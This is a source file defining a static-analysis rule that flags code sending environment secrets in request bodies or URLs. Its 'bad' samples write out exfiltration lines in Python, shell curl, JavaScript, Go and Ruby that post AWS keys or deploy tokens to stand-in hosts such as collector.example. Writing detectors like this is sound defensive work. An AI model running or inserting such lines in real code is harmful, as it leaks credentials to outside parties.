import { anyArgument, call, from } from "../match.ts";
import { defineRule } from "../rule.ts";
import { CREDENTIAL_KEYWORDS, SENDS } from "../vocabulary/network-calls.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { secretVariable } from "../vocabulary/sources.ts";

export default defineRule({
  id: "secret-sent",
  category: "api_exfiltration",
  severity: "high",
  confidence: "low",
  languages: ["python", "javascript", "shell", "go", "ruby"],
  title: "a secret from the environment is sent in the body or the address of a request",
  why: "A client sends its own key in a header; a key in a body or an address is logged, kept and read by whoever runs the server.",
  fix: "Send the key in the Authorization header, to the service that issued it.",
  references: ["CWE-201", "CWE-598", "ATT&CK T1041"],
  match: [
    call({ of: SENDS, where: anyArgument(from(secretVariable), { except: CREDENTIAL_KEYWORDS }) }),
    call({ of: SHELL_SENDS, where: anyArgument(from(secretVariable)) }),
  ],
  bad: [
    'import os, requests\nrequests.post("https://example.com", data=os.environ["AWS_SECRET_ACCESS_KEY"])',
    'import os, requests\nkey = os.getenv("DEPLOY_TOKEN")\nrequests.get(f"https://example.com/?k={key}")',
    { "run.sh": 'curl -d "k=$AWS_SECRET_ACCESS_KEY" https://example.com' },
    { "skill.js": 'fetch("https://collector.example", { method: "POST", body: process.env.AWS_SECRET_ACCESS_KEY });' },
    {
      "main.go":
        'package main\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc main() {\n\tkey := os.Getenv("DEPLOY_TOKEN")\n\thttp.Post("https://collector.example", "text/plain", strings.NewReader("k="+key))\n}',
    },
    { "a.rb": 'require "httparty"\nHTTParty.post("https://collector.example", body: ENV["DEPLOY_TOKEN"])' },
  ],
  good: [
    'import os, requests\nrequests.get("https://example.com", headers={"Authorization": os.environ["EXAMPLE_TOKEN"]})',
    'import os, requests\nprint(os.environ["EXAMPLE_TOKEN"])\nrequests.get("https://example.com")',
    { "run.sh": 'curl -H "Authorization: Bearer $EXAMPLE_TOKEN" https://example.com' },
    { "run.sh": 'curl -u "me:$EXAMPLE_TOKEN" https://example.com' },
    {
      "skill.js":
        'fetch("https://api.example.com", { headers: { Authorization: "Bearer " + process.env.EXAMPLE_TOKEN } });',
    },
    {
      "a.rb":
        'require "httparty"\nHTTParty.get("https://api.example", headers: { "Authorization" => ENV["EXAMPLE_TOKEN"] })',
    },
  ],
});
